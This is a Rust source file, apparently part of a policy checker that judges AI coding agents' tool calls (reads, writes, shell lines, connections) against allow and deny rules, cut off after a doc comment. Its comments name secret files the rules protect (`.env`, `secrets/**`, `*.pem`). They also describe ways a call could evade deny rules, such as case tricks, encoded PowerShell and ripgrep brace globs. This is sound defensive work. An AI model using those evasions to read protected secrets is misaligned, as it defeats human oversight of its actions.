//! One tool call judged against a policy: each thing it does (reads, writes, runs, connects
//! to) is allowed, has no policy, or violates a rule, and the call takes the worst of them.

use std::borrow::Cow;

use serde::Serialize;
use serde_json::Value;

use super::cwd::{
    cd_into, drive_relative_resolved, in_folder, is_windows_folder, unix_shaped, unspelt,
    windows_shaped, windows_trimmed,
};
use super::git::{Applier, GitPaths};
use super::options;
use super::pwsh_names;
use super::shell::{self, SimpleCommand};
use super::wildcard;
use super::windows::Syntax;
use super::{CommandPattern, PathRules, Policy};
use crate::model::ToolKind;
use crate::model::glob::{Exclusion, Glob, ShellGlob};
use crate::model::tools::{self, Agent, Shape};
use crate::model::view::ToolCall;

/// Where the project is, so that globs such as `src/**` can be matched against the absolute
/// paths agents send.
#[derive(Debug, Clone, Default)]
pub struct Place {
    /// The agent's working folder: relative paths are taken from here.
    pub cwd: Option<String>,
    /// Folders that policy globs are relative to (the policy's folder, the project), in order.
    pub roots: Vec<String>,
    /// The folder the agent was started in, when known (Claude Code's `CLAUDE_PROJECT_DIR`):
    /// where Claude Code's Grep starts ripgrep, which a Bash `cd` does not move.
    pub launch: Option<String>,
    /// The home folder, when known: Claude Code's tools take a path starting with `~/` from
    /// there (`Grep path="~/proj/secrets"`).
    pub home: Option<String>,
    /// Looks at what is at an absolute path, for a caller that can (the hook, as the call is
    /// made; `audit`, on the machine that runs it): git takes a word for a path only when it
    /// names no revision, which the line does not say, and a file or folder of that name says
    /// it is a path. `None`: nothing is looked at.
    pub probe: Option<fn(&str) -> Found>,
    /// Reads what a file at an absolute path holds, for a caller that can (the hook; `audit`):
    /// a patch git applies names the files it writes. `None`: nothing is read.
    pub read: Option<fn(&str) -> Held>,
}

/// What a file holds.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Held {
    /// Nothing is there.
    Nothing,
    Text(String),
    /// Something is there that is not read: a link, no regular file, one too large.
    Unread,
}

/// What is at a path.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Found {
    Nothing,
    File,
    Folder,
}

/// How a call or one of its parts stands.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Status {
    Allowed,
    NoPolicy,
    Violation,
}

/// One thing a call does.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(tag = "kind", content = "target", rename_all = "snake_case")]
pub enum Access {
    Read(String),
    Write(String),
    Run(String),
    Connect(String),
    Tool(String),
}

impl Access {
    /// What the access is, for a sentence: `read .env`, `run curl x`.
    pub fn describe(&self) -> String {
        match self {
            Access::Read(p) => format!("reading `{p}`"),
            Access::Write(p) => format!("writing `{p}`"),
            Access::Run(c) => format!("running `{c}`"),
            Access::Connect(h) => format!("connecting to `{h}`"),
            Access::Tool(t) => format!("calling the tool `{t}`"),
        }
    }
}

/// The judgement of one access: its status and the rule that decided it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Judgement {
    pub access: Access,
    pub status: Status,
    /// The rule's key (`files.read.deny`, `commands.allow`, `sensitive`); none for no policy.
    pub rule: Option<&'static str>,
    /// The pattern of the rule that matched, if one did.
    pub pattern: Option<String>,
}

/// A whole call's judgement: the worst of its parts, and the part that decided it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Verdict {
    pub status: Status,
    pub rule: Option<&'static str>,
    pub pattern: Option<String>,
    /// The access that decided; `None` when the call does nothing a policy judges.
    pub access: Option<Access>,
    pub parts: Vec<Judgement>,
}

/// At most this many simple commands, files and hosts are judged per call: a runaway
/// command line must not make the hook slow. What is past them is judged as a line the shell
/// reader left unread ([`shell::unread`]): it may do anything.
const MAX_PARTS: usize = 1024;

/// Judges a tool call.
pub fn check(policy: &Policy, call: &ToolCall<'_>, place: &Place) -> Verdict {
    // The session's disk, not the folder a call names (`/users/zoe/app/secrets` from
    // `/Users/zoe/app` is on a Mac's disk too).
    let any_case = takes_any_case(place);
    // A line Gemini CLI runs in the folder its call names starts there.
    let started = (call.kind == ToolKind::Shell)
        .then(|| tools::shell_start_folder(call.agent, call.arguments))
        .flatten()
        .map(|dir| Place {
            cwd: Some(start_folder(dir, place.cwd.as_deref())),
            ..place.clone()
        });
    let place = started.as_ref().unwrap_or(place);
    match place.cwd.as_deref() {
        Some(cwd) if is_windows_folder(cwd) => check_windows(policy, call, place),
        _ if any_case || takes_any_case(place) => check_any_case(policy, call, place),
        _ => check_call(policy, call, place, PathShape::Unix),
    }
}

/// The folder a shell call names for its line to start in (Gemini CLI's `dir_path`), from the
/// session's folder `cwd`: Node's `path.resolve`, which takes a Windows folder from a drive
/// (`C:\app\secrets`) as it is when the session's folder is a Windows one.
pub fn start_folder(dir: &str, cwd: Option<&str>) -> String {
    if is_windows_folder(dir) && cwd.is_some_and(is_windows_folder) {
        return dir.to_owned();
    }
    absolute(dir, cwd)
}

/// How a call's paths are read: as a Unix disk takes them, as Windows takes them (in a Unix
/// shape, see [`check_windows`]), or as a disk that takes a name in any case, folded.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum PathShape {
    Unix,
    Windows,
    AnyCase,
}

/// Whether the call was made on a disk that takes a name in any case: a Mac's (APFS and HFS+
/// are formatted so unless asked otherwise), told by the session's folder (`/Users/…`,
/// `/Volumes/…`, a temporary folder under `/private/`) or by running on macOS.
fn takes_any_case(place: &Place) -> bool {
    if cfg!(target_os = "macos") {
        return true;
    }
    let mac_folder = |dir: &String| {
        ["/Users/", "/Volumes/", "/private/var/", "/private/tmp/"]
            .iter()
            .any(|top| dir.starts_with(top))
    };
    place.cwd.iter().chain(&place.roots).any(mac_folder)
}

/// Judges a call made on a disk that takes a name in any case (a Mac's, [`takes_any_case`]):
/// `cat SECRETS/key` reads `secrets/key` there. The call is judged as written, then again with
/// its paths, its folders and the policy's file patterns in lower case ([`folded_path`]), and
/// that judgement is the verdict when the two differ. Its lines are read as written: the shell
/// and its programs tell case apart.
fn check_any_case(policy: &Policy, call: &ToolCall<'_>, place: &Place) -> Verdict {
    let verdict = check_call(policy, call, place, PathShape::Unix);
    // Folding changes nothing where it changes no path, no pattern and none of the place's
    // folders: `cat /users/zoe/app/secrets/k` from `/Users/zoe/app` has no capital, but its
    // folder does, and only folded is it the project's `secrets`.
    let changes = |s: &str| {
        s.chars().any(|c| folded_char(c).ne(c.to_string().chars()))
            || !unicode_normalization::is_nfc(s)
    };
    let mut call_changes = false;
    strings_of(call.arguments, &mut |s| call_changes |= changes(s));
    let files = &policy.source.files;
    let patterns_change = [&files.read, &files.write]
        .iter()
        .flat_map(|lists| lists.allow.iter().chain(&lists.deny))
        .any(|p| changes(p));
    let place_changes = (place.cwd.iter().chain(&place.roots))
        .chain(place.launch.iter().chain(&place.home))
        .any(|dir| changes(dir));
    if !call_changes && !patterns_change && !place_changes {
        return verdict;
    }
    let folded_place = Place {
        cwd: place.cwd.as_deref().map(folded_path),
        roots: place.roots.iter().map(|r| folded_path(r)).collect(),
        launch: place.launch.as_deref().map(folded_path),
        home: place.home.as_deref().map(folded_path),
        probe: place.probe,
        read: place.read,
    };
    let folded = check_call(
        &policy.with_file_patterns(folded_path),
        call,
        &folded_place,
        PathShape::AnyCase,
    );
    if folded.status == verdict.status {
        verdict
    } else {
        folded
    }
}

/// A path in lower case, but for the names of the variables in it (`$HOME/Notes` is
/// `$HOME/notes`): a variable's name is the shell's, which tells case apart. It is composed
/// (NFC) too: a Mac's disk takes `café` spelt with a combining accent (`cafe\u{301}`, as
/// HFS+ stores names and a macOS tool may pass them) for the same name.
fn folded_path(path: &str) -> String {
    let mut out = String::with_capacity(path.len());
    let mut in_name = false;
    let mut braced = false;
    for c in path.chars() {
        if c == '$' {
            in_name = true;
            braced = false;
            out.push(c);
            continue;
        }
        if in_name {
            if c == '{' && !braced && out.ends_with('$') {
                braced = true;
                out.push(c);
                continue;
            }
            let name_char = c.is_ascii_alphanumeric() || c == '_';
            if name_char {
                out.push(c);
                continue;
            }
            if braced && c == '}' {
                out.push(c);
            }
            in_name = false;
            if braced && c == '}' {
                braced = false;
                continue;
            }
            braced = false;
        }
        out.extend(folded_char(c));
    }
    if unicode_normalization::is_nfc_quick(out.chars()) == unicode_normalization::IsNormalized::Yes
    {
        return out;
    }
    unicode_normalization::UnicodeNormalization::nfc(out.chars()).collect()
}

/// A character as a disk that takes a name in any case compares it: in lower case, and the
/// long s (`ſ`), whose lower case is itself, as the `s` Unicode folds it to.
fn folded_char(c: char) -> impl Iterator<Item = char> {
    let c = if c == 'ſ' { 's' } else { c };
    c.to_lowercase()
}

/// Judges a call made in a Windows folder (a Codex rollout recorded on Windows): its paths and
/// lines, and the folders it ran in, read in a Unix shape ([`unix_shaped`]: `secrets\key.txt`
/// is `secrets/key.txt`, `C:\app` is `/C:/app`), and what it did said with its drives as
/// written (`C:/app/secrets/key.txt`). Its project is the folder the session started in, where
/// on Windows the policy would be: the policy read here lies in another machine's folder.
///
/// Windows takes a name in any case (`type SECRETS\key.txt` reads `secrets\key.txt`, `TYPE`
/// runs `type`): the call is judged again with its paths, its folders and the policy's file
/// patterns in lower case, its command patterns folded as its lines are ([`case_folded`]), and
/// that judgement is the verdict, said as the call spelt it when both agree.
///
/// A file pattern from a drive (`D:/tmp/**`, as `policy` writes one) is read in the same Unix
/// shape as the paths.
fn check_windows(policy: &Policy, call: &ToolCall<'_>, place: &Place) -> Verdict {
    let policy = &policy.with_file_patterns(|p| {
        if is_windows_folder(p) {
            unix_shaped(p)
        } else {
            p.to_owned()
        }
    });
    let verdict = check_windows_as_spelt(policy, call, place, &|s| s.to_owned());
    let folded = check_windows_as_spelt(
        &policy
            .with_files_in_lower_case()
            .with_command_patterns(case_folded),
        call,
        place,
        &case_folded,
    );
    if folded.status == verdict.status {
        verdict
    } else {
        folded
    }
}

/// Text in lower case but for the letter of a short option (`-C`, `-Ssrc`), which may mean
/// another option in lower case (`git -C dir`, `git -c key=value`), and a patch's headers
/// (`*** Add File: `), which Codex reads in their case only: a patch's paths are folded, not the
/// lines that name them.
fn case_folded(text: &str) -> String {
    if tools::patch_paths(text).is_empty() {
        return case_folded_words(text);
    }
    text.split_inclusive('\n')
        .map(|line| match tools::patch_paths(line).first() {
            Some(path) => {
                let at = line.rfind(path.as_str()).unwrap_or(line.len());
                let (header, rest) = line.split_at(at);
                format!("{header}{}", case_folded_words(rest))
            }
            None => case_folded_words(line),
        })
        .collect()
}

/// [`case_folded`] for text that is no patch.
fn case_folded_words(text: &str) -> String {
    let chars: Vec<char> = text.chars().collect();
    let mut out = String::with_capacity(text.len());
    for (i, &c) in chars.iter().enumerate() {
        let option_letter = i >= 1 && chars[i - 1] == '-' && {
            let dash = i - 1;
            dash == 0 || chars[dash - 1].is_whitespace() || "\"'=(<>|;&,".contains(chars[dash - 1])
        };
        if option_letter {
            out.push(c);
        } else {
            out.extend(c.to_lowercase());
        }
    }
    out
}

/// [`check_windows`] with the call's strings and the place's folders spelt by `spell`.
fn check_windows_as_spelt(
    policy: &Policy,
    call: &ToolCall<'_>,
    place: &Place,
    spell: &dyn Fn(&str) -> String,
) -> Verdict {
    let place = windows_place(place, spell);
    let cwd = unix_shaped(place.cwd.as_deref().unwrap_or_default());
    let arguments = unix_shaped_value(call.arguments, &cwd, spell);
    let call = ToolCall {
        arguments: &arguments,
        ..call.clone()
    };
    let mut verdict = check_call(policy, &call, &place, PathShape::Windows);
    for access in verdict
        .parts
        .iter_mut()
        .map(|p| &mut p.access)
        .chain(&mut verdict.access)
    {
        if let Access::Read(p) | Access::Write(p) | Access::Run(p) = access {
            *p = windows_shaped(p);
        }
    }
    verdict
}

/// A place whose folders are Windows ones in a Unix shape, spelt by `spell`: the project is the
/// folder the session started in ([`check_windows`]).
fn windows_place(place: &Place, spell: &dyn Fn(&str) -> String) -> Place {
    let windows = |f: &String| is_windows_folder(f).then(|| spell(&unix_shaped(f)));
    let mut roots: Vec<String> = place
        .roots
        .iter()
        .filter(|r| !is_windows_folder(r))
        .map(|r| spell(r))
        .collect();
    roots.extend(place.launch.iter().filter_map(windows));
    roots.extend(place.roots.iter().filter_map(windows));
    Place {
        cwd: place.cwd.as_deref().map(|c| spell(&unix_shaped(c))),
        roots,
        launch: place.launch.as_ref().and_then(windows),
        home: place.home.as_ref().and_then(windows),
        // Its paths are another machine's, and in another shape.
        probe: None,
        read: None,
    }
}

/// What a call made in `place` does, as [`check`] reads it, with the place it is read in: a
/// call made in a Windows folder in a Unix shape (`C:/app/src/a.rs` is `/C:/app/src/a.rs`, its
/// lines read as cmd's and PowerShell's), said so (`true`); any other as [`accesses`] reads it.
pub fn accesses_where(call: &ToolCall<'_>, place: &Place) -> (Vec<Access>, Place, bool) {
    match place.cwd.as_deref() {
        Some(cwd) if is_windows_folder(cwd) => {
            let same = |s: &str| s.to_owned();
            let arguments = unix_shaped_value(call.arguments, &unix_shaped(cwd), &same);
            let call = ToolCall {
                arguments: &arguments,
                ..call.clone()
            };
            let read = accesses_read(&call, true);
            (read, windows_place(place, &same), true)
        }
        _ => (accesses(call), place.clone(), false),
    }
}

/// Every string in a call's arguments in a Unix shape ([`unix_shaped`]), spelt by `spell`, a
/// PowerShell `-EncodedCommand` in it written out first (its blob is no text to fold), and a
/// path from the current folder of the drive of `cwd` (the call's folder, in a Unix shape) put
/// under it ([`drive_relative_resolved`]: `C:secrets\k` is `/C:/app/secrets/k`).
fn unix_shaped_value(value: &Value, cwd: &str, spell: &dyn Fn(&str) -> String) -> Value {
    match value {
        Value::String(s) => {
            let decoded = super::windows::decoded(s);
            let shaped = unix_shaped(&super::windows::typed_slashes_marked(&decoded));
            Value::String(spell(&drive_relative_resolved(&shaped, cwd)))
        }
        Value::Array(items) => items
            .iter()
            .map(|v| unix_shaped_value(v, cwd, spell))
            .collect(),
        Value::Object(map) => map
            .iter()
            .map(|(k, v)| (k.clone(), unix_shaped_value(v, cwd, spell)))
            .collect(),
        other => other.clone(),
    }
}

/// Judges a tool call, its paths read as `shape` says: one made in a Windows folder, whose
/// lines are cmd's or PowerShell's, or one whose paths are folded to lower case.
fn check_call(policy: &Policy, call: &ToolCall<'_>, place: &Place, shape: PathShape) -> Verdict {
    let windows = shape == PathShape::Windows;
    let mut parts = Vec::new();
    if let Some(j) = judge_tool(policy, call) {
        parts.push(j);
    }
    // A shell's files come marked: which of them a shell matches as globs, and which folders
    // a command goes through whole; a search's folders too.
    let marked = match (call.kind, shell_line(call, windows)) {
        (ToolKind::Shell, Some((command, syntax))) => {
            command_parts(&command, windows, syntax, Some(place))
        }
        (ToolKind::Search, _) => search_parts(call),
        (ToolKind::ReadFile, _) if call.path().is_none() => search_parts(call),
        _ => accesses(call)
            .into_iter()
            .map(|a| (a, Spelt::TEXT))
            .collect(),
    };
    let respelt = |spell: fn(&str) -> String| {
        move |(access, spelt): (Access, Spelt)| {
            let access = match access {
                Access::Read(p) => Access::Read(spell(&p)),
                Access::Write(p) => Access::Write(spell(&p)),
                other => other,
            };
            (access, spelt)
        }
    };
    let marked: Vec<(Access, Spelt)> = match shape {
        PathShape::Windows => marked.into_iter().map(respelt(windows_trimmed)).collect(),
        PathShape::AnyCase => marked.into_iter().map(respelt(folded_path)).collect(),
        PathShape::Unix => marked,
    };
    let left_out = left_out(call, place);
    // ripgrep's `*` takes a leading dot, and Claude Code runs it with `--hidden`.
    let dots = is_claude_grep(call);
    let content = reads_content(call);
    let room = MAX_PARTS.saturating_sub(parts.len());
    let cut = marked.len() > room;
    for (access, spelt) in marked.into_iter().take(room) {
        let judged = judge_spelt(policy, access, place, spelt, &left_out);
        // A word that may be a revision is no path an allow list must name.
        let denied = matches!(
            judged.rule,
            Some("files.read.deny" | "files.write.deny" | "sensitive")
        );
        if !spelt.maybe || denied {
            parts.push(judged);
        }
    }
    if cut {
        let mut unread = Vec::new();
        if let Some(simple) = shell::unread(UNREAD_PAST_PARTS) {
            push_parts(&simple, "", false, None, &mut None, &mut unread);
        }
        for (access, spelt) in unread {
            parts.push(judge_spelt(policy, access, place, spelt, &left_out));
        }
    }
    for (glob, named) in search_globs(call)
        .into_iter()
        .chain(globs_from_roots(call, place))
    {
        if parts.len() >= MAX_PARTS {
            break;
        }
        let glob = match shape {
            PathShape::AnyCase => folded_path(&glob),
            PathShape::Unix | PathShape::Windows => glob,
        };
        let lists = match (named, content) {
            (false, _) => Lists::Deny,
            (true, false) => Lists::Allow,
            (true, true) => Lists::SensitiveAndAllow,
        };
        parts.extend(judge_glob(policy, &glob, place, &left_out, dots, lists));
    }
    verdict(parts)
}

fn verdict(parts: Vec<Judgement>) -> Verdict {
    let worst = parts.iter().map(|p| p.status).max();
    let decisive = worst.and_then(|w| parts.iter().find(|p| p.status == w));
    Verdict {
        status: worst.unwrap_or(Status::NoPolicy),
        rule: decisive.and_then(|d| d.rule),
        pattern: decisive.and_then(|d| d.pattern.clone()),
        access: decisive.map(|d| d.access.clone()),
        parts,
    }
}

/// What a call does, by its kind (read through the tool table, never by tool name).
pub fn accesses(call: &ToolCall<'_>) -> Vec<Access> {
    accesses_read(call, false)
}

/// [`accesses`]; `windows`: of a call made in a Windows folder, whose lines are cmd's or
/// PowerShell's.
fn accesses_read(call: &ToolCall<'_>, windows: bool) -> Vec<Access> {
    let mut out = Vec::new();
    match call.kind {
        ToolKind::ReadFile => match call.path() {
            Some(path) => out.push(Access::Read(path.to_owned())),
            // A bulk read (Gemini CLI's `read_many_files`) names files and globs in a list.
            None => out.extend(search_reads(call)),
        },
        ToolKind::WriteFile => {
            let files = call.files();
            if files.is_empty() {
                // A patch names its files inside it (Codex's `apply_patch`).
                out.extend(
                    tools::patch_files(call.tool, call.arguments)
                        .into_iter()
                        .map(Access::Write),
                );
            }
            out.extend(files.into_iter().map(|f| Access::Write(f.to_owned())));
        }
        ToolKind::Search => out.extend(search_reads(call)),
        ToolKind::Shell => {
            if let Some((command, syntax)) = shell_line(call, windows) {
                let parts = command_parts(&command, windows, syntax, None);
                out.extend(parts.into_iter().map(|(a, _)| a));
            }
        }
        ToolKind::Web => {
            // The URL, each of a list (VS Code's `fetch_webpage` `urls`), and those written in
            // a prompt (Gemini CLI's `web_fetch` has no other); a search's query is no address.
            let mut hosts = Vec::new();
            for (key, value) in call.arguments.as_object().into_iter().flatten() {
                if key != "query" {
                    strings_of(value, &mut |s| hosts.extend(shell::hosts(s)));
                }
            }
            hosts.sort();
            hosts.dedup();
            out.extend(hosts.into_iter().map(Access::Connect));
        }
        ToolKind::Mcp => {
            let mut hosts = Vec::new();
            strings_of(call.arguments, &mut |s| {
                if s.contains("://") {
                    hosts.extend(shell::hosts(s));
                }
            });
            hosts.sort();
            hosts.dedup();
            out.extend(hosts.into_iter().map(Access::Connect));
        }
        ToolKind::SpawnSubagent | ToolKind::Other => {}
    }
    out
}

/// What a search or a bulk read reads: each folder it names, and for each glob the file it
/// names when it has no wildcard (`.env`), else the folder its literal start names
/// (`secrets/**` reads in `secrets`).
fn search_reads(call: &ToolCall<'_>) -> Vec<Access> {
    search_parts(call).into_iter().map(|(a, _)| a).collect()
}

/// [`search_reads`], marked: a search of file contents (Grep, not Glob, which lists names)
/// goes through each folder it names whole, as does a bulk read through a folder it names
/// (`read_many_files` of `src`), its hidden files and folders too. Claude Code's Grep is
/// ripgrep, and its versions differ: some pass `--hidden` (leaving out only version control
/// folders such as `.git`), others do not; taken as going into them, as every agent's search
/// is, a deny of `.env` is never passed over by a version that reads it.
fn search_parts(call: &ToolCall<'_>) -> Vec<(Access, Spelt)> {
    let scope = call.search_scope();
    let content = reads_content(call);
    let whole = Spelt {
        glob: None,
        tree: content.then_some(true),
        maybe: false,
        powershell: false,
    };
    // A search of file contents that names no folder and no glob searches the working folder
    // (Claude Code's Grep, Gemini CLI's `search_file_content` with no `dir_path`); its globs,
    // when it has some, say where it reads. Globs that only leave files out (`!*.md`) say
    // nothing of where it reads: it goes through the working folder as with none.
    let folders: Vec<&str> = if scope.folders.is_empty()
        && search_glob_list(call)
            .iter()
            .all(|g| content && is_exclusion(g))
        && content
        && call.kind == ToolKind::Search
    {
        vec!["."]
    } else {
        scope.folders.clone()
    };
    let mut out: Vec<(Access, Spelt)> = folders
        .iter()
        .map(|f| (Access::Read((*f).to_owned()), whole))
        .collect();
    for (glob, _) in search_globs(call) {
        let literal = literal_start(&glob);
        if !literal.is_empty() && !folders.contains(&literal.as_str()) {
            // A name without a wildcard may be a folder; a glob's start is only where it looks.
            let spelt = if is_wild(&glob) { Spelt::TEXT } else { whole };
            out.push((Access::Read(literal), spelt));
        }
    }
    out.dedup_by(|a, b| a.0 == b.0);
    out
}

/// A search's globs, each below each folder the search names (`dir_path` `secrets` and
/// `*.txt` is `secrets/*.txt`), and whether it names what the search takes: not a form of a
/// Claude Code Grep's glob with braces or escapes, as written or read as taking at least what
/// ripgrep takes ([`ripgrep_text`]), which the alternatives it stands for do
/// ([`ripgrep_alternatives`]).
fn search_globs(call: &ToolCall<'_>) -> Vec<(String, bool)> {
    let scope = call.search_scope();
    let content = reads_content(call);
    let claude = is_claude_grep(call);
    let mut out = Vec::new();
    for glob in search_glob_list(call) {
        let glob = glob.trim();
        if content && is_exclusion(glob) {
            // It leaves files out of what the search reads; what it reads is judged whole
            // (the files it leaves out too: see docs/security.md).
            continue;
        }
        let mut forms = vec![(glob.to_owned(), true)];
        if claude && let Some(text) = ripgrep_text(glob) {
            let alternatives = ripgrep_alternatives(glob);
            forms[0].1 = false;
            forms.push((text, alternatives.is_none()));
            forms.extend(alternatives.into_iter().flatten().map(|a| (a, true)));
        }
        if claude {
            let anywhere: Vec<(String, bool)> = forms
                .iter()
                .filter_map(|(f, named)| Some((ripgrep_glob(f)?, *named)))
                .collect();
            forms.extend(anywhere);
        }
        for (glob, named) in forms {
            if scope.folders.is_empty() || glob.starts_with(['/', '~']) {
                out.push((glob, named));
            } else {
                out.extend(
                    scope
                        .folders
                        .iter()
                        .map(|f| (format!("{}/{glob}", f.trim_end_matches('/')), named)),
                );
            }
        }
    }
    out
}

/// A glob of Claude Code's Grep with ripgrep's braces and escapes read, when it has some, as a
/// glob that takes at least what ripgrep's takes: `\x` is `x` (`secrets\/**` is `secrets/**`;
/// an escaped wildcard is taken for a wildcard), a `{…}` is `*` (`{secrets,x}/**` takes
/// `secrets/**`), and a glob whose braces hold a `/` (`{src/a.rs,secrets/key.pem}`) is `**`.
fn ripgrep_text(glob: &str) -> Option<String> {
    if !glob.contains(['{', '}', '\\']) {
        return None;
    }
    let mut out = String::new();
    let mut depth = 0usize;
    let mut chars = glob.chars();
    while let Some(c) = chars.next() {
        match c {
            '\\' => match chars.next() {
                Some('/') if depth > 0 => return Some("**".to_owned()),
                Some(next) if depth == 0 => out.push(next),
                _ => {}
            },
            '{' => {
                if depth == 0 {
                    out.push('*');
                }
                depth += 1;
            }
            '}' if depth > 0 => depth -= 1,
            '/' if depth > 0 => return Some("**".to_owned()),
            c if depth == 0 => out.push(c),
            _ => {}
        }
    }
    Some(out)
}

/// At most this many alternatives are read of one glob's braces ([`ripgrep_alternatives`]).
const MAX_ALTERNATIVES: usize = 64;

/// The globs a Claude Code Grep's glob with braces stands for, as ripgrep reads them: each
/// `{a,b}` an alternative (`*.{rs,md}` is `*.rs` and `*.md`, `{.env}` is `.env`, groups nest),
/// `\x` is `x`. `None` for braces that do not close, or more than [`MAX_ALTERNATIVES`]
/// alternatives: the glob is then read as [`ripgrep_text`] reads it.
fn ripgrep_alternatives(glob: &str) -> Option<Vec<String>> {
    let mut out = Vec::new();
    let mut steps = 0;
    expand_alternatives(glob, &mut out, &mut steps)?;
    (out.len() <= MAX_ALTERNATIVES).then_some(out)
}

/// Expands the first group of `glob`'s braces into `out`, then the rest of each alternative;
/// `None` when braces do not close or it would take more than a few hundred steps.
fn expand_alternatives(glob: &str, out: &mut Vec<String>, steps: &mut usize) -> Option<()> {
    *steps += 1;
    if *steps > 4 * MAX_ALTERNATIVES || out.len() > MAX_ALTERNATIVES {
        return None;
    }
    let chars: Vec<char> = glob.chars().collect();
    let mut open = None;
    let mut i = 0;
    while i < chars.len() {
        match chars[i] {
            '\\' => i += 1,
            '{' => {
                open = Some(i);
                break;
            }
            '}' => return None,
            _ => {}
        }
        i += 1;
    }
    let Some(open) = open else {
        let mut text = String::new();
        let mut escaped = false;
        for &c in &chars {
            if c == '\\' && !escaped {
                escaped = true;
            } else {
                text.push(c);
                escaped = false;
            }
        }
        out.push(text);
        return Some(());
    };
    let (mut depth, mut cuts) = (0usize, vec![open]);
    let mut i = open;
    while i < chars.len() {
        match chars[i] {
            '\\' => i += 1,
            '{' => depth += 1,
            '}' if depth == 1 => {
                cuts.push(i);
                break;
            }
            '}' => depth -= 1,
            ',' if depth == 1 => cuts.push(i),
            _ => {}
        }
        i += 1;
    }
    let close = *cuts.last().filter(|&&c| c != open && chars[c] == '}')?;
    let head: String = chars[..open].iter().collect();
    let tail: String = chars[close + 1..].iter().collect();
    for pair in cuts.windows(2) {
        let item: String = chars[pair[0] + 1..pair[1]].iter().collect();
        expand_alternatives(&format!("{head}{item}{tail}"), out, steps)?;
    }
    Some(())
}

/// A glob of Claude Code's Grep as ripgrep reads a `-g` (gitignore's rules), when that differs
/// from its text: one with no `/` before its end names a file or folder in any folder (`*.pem`
/// and `key.pem` are `**/*.pem` and `**/key.pem`), one starting with `/` a path from where
/// ripgrep starts (`/secrets/**` is `secrets/**`, not the `/secrets` of the file system).
fn ripgrep_glob(glob: &str) -> Option<String> {
    if let Some(rest) = glob.strip_prefix('/') {
        return (!rest.is_empty()).then(|| rest.to_owned());
    }
    let name = glob.trim_end_matches('/');
    (!name.is_empty() && !name.contains('/') && !name.starts_with("**"))
        .then(|| format!("**/{glob}"))
}

/// A Claude Code Grep's globs that name a path (`src/secrets/**`, `/secrets/**`) as ripgrep may
/// read them when the search names no folder: Claude Code up to 2.1.100 starts ripgrep in the
/// folder it was started in, not in the working folder a Bash `cd` may have moved since, and
/// ripgrep reads such a glob from where it starts. So each is also judged from the project's
/// folders and from where Claude Code started, when known; as written, they name what the
/// search takes unless they hold braces or escapes ([`search_globs`]).
fn globs_from_roots(call: &ToolCall<'_>, place: &Place) -> Vec<(String, bool)> {
    if !is_claude_grep(call) || !call.search_scope().folders.is_empty() {
        return Vec::new();
    }
    let starts: Vec<&str> = place
        .roots
        .iter()
        .chain(place.launch.as_ref())
        .map(String::as_str)
        .collect();
    let mut out = Vec::new();
    for glob in search_glob_list(call) {
        if is_exclusion(glob) {
            continue;
        }
        let path = glob.strip_prefix('/').unwrap_or(glob);
        let named = ripgrep_text(path).is_none();
        if path.trim_end_matches('/').contains('/') && !path.starts_with("**") {
            out.extend(
                starts
                    .iter()
                    .map(|s| (format!("{}/{path}", s.trim_end_matches('/')), named)),
            );
        }
    }
    out
}

/// Whether a search or a bulk read reads the files it takes (Grep, `read_many_files`), not only
/// lists their names (a glob tool, as `ls` does).
fn reads_content(call: &ToolCall<'_>) -> bool {
    call.spec.is_none_or(|s| s.shape != Shape::Glob)
}

/// Whether a search's glob leaves the files it matches out (ripgrep's `-g '!*.md'`, the glob of
/// Claude Code's Grep) instead of naming those it reads.
fn is_exclusion(glob: &str) -> bool {
    glob.trim_start().starts_with('!')
}

/// Whether a call is Claude Code's Grep, which runs ripgrep with its `glob` as `-g` globs.
fn is_claude_grep(call: &ToolCall<'_>) -> bool {
    call.agent == Agent::ClaudeCode
        && call.kind == ToolKind::Search
        && call.spec.is_some_and(|s| s.shape == Shape::Grep)
}

/// A search's globs as the agent hands them on. Claude Code's Grep splits its `glob` at
/// whitespace (JavaScript's `\s`), then each piece that does not hold both `{` and `}` at
/// commas, and passes the pieces to ripgrep in that order (`"!*.pem,!*.key"` is two globs,
/// `"*.rs !*.pem"` two, `"*.{ts,tsx}"` one): so in every version read, 0.2.126 to 2.1.332.
/// Other agents' globs are taken as they are.
fn search_glob_list<'a>(call: &ToolCall<'a>) -> Vec<&'a str> {
    let globs = call.search_scope().globs;
    if !is_claude_grep(call) {
        return globs;
    }
    let mut out = Vec::new();
    for word in globs
        .into_iter()
        .flat_map(|g| g.split(is_js_space))
        .filter(|w| !w.is_empty())
    {
        if word.contains('{') && word.contains('}') {
            out.push(word);
        } else {
            out.extend(word.split(',').filter(|p| !p.is_empty()));
        }
    }
    out
}

/// JavaScript's `\s`: Unicode's spaces and line ends, and the byte order mark (U+FEFF), but not
/// U+0085, which Rust's `char::is_whitespace` takes.
fn is_js_space(c: char) -> bool {
    matches!(
        c,
        '\t' | '\n' | '\u{b}' | '\u{c}' | '\r' | ' ' | '\u{a0}' | '\u{1680}' | '\u{2000}'
            ..='\u{200a}'
                | '\u{2028}'
                | '\u{2029}'
                | '\u{202f}'
                | '\u{205f}'
                | '\u{3000}'
                | '\u{feff}'
    )
}

/// What a search certainly leaves out of the one folder it goes through ([`left_out`]).
#[derive(Debug, Default)]
struct LeftOut {
    /// The folder searched, from the project's folder (`""` for that folder itself).
    folder: String,
    exclusions: Vec<Exclusion>,
}

impl LeftOut {
    /// Whether the search reads no path `deny` matches: all of them below its folder are left
    /// out ([`Glob::left_out_below`]).
    fn covers(&self, deny: &Glob) -> bool {
        self.exclusions
            .iter()
            .any(|e| deny.left_out_below(&self.folder, e))
    }
}

/// What a search certainly leaves out of the folder it goes through: Claude Code's Grep
/// (ripgrep, each of its globs a `-g`) leaves out what a glob starting with `!` matches
/// ([`Exclusion`]), and a folder it matches is not walked into, unless a later glob takes the
/// path back (ripgrep obeys the last glob that matches): so only the exclusions after its last
/// glob that names files count (`"*.rs !secrets/**"`, not `"!secrets/** *.rs"`). A deny these
/// cover is not asked of the folder ([`LeftOut::covers`]). The folder must be in the project
/// (the deny's paths are from the project's folder), the same for every path the search names.
